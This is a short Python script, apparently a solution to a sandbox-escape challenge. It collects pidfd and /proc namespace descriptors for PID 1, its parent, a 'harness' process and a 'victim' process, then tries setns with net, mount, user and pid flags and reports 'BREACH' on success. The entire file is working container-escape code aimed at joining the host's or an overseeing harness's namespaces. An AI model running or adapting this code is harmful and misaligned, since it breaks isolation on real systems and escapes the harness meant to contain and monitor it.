# Joins the namespaces of its parent, of the harness, and of whatever its descriptors stand for.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def solve(target):
    descriptors = list(range(16))
    for pid in (1, os.getppid(), target["harness"], target["victim"]):
        descriptors.append(libc.syscall(434, pid, 0))
        descriptors += [libc.open(f"/proc/{pid}/ns/{kind}".encode(), 0) for kind in ("net", "mnt", "user", "pid")]
    for descriptor in descriptors:
        if descriptor >= 0:
            for kind in (0, 0x40000000, 0x20000, 0x10000000):
                if libc.setns(descriptor, kind) == 0:
                    return f"BREACH: joined by {descriptor}"
    return "held"
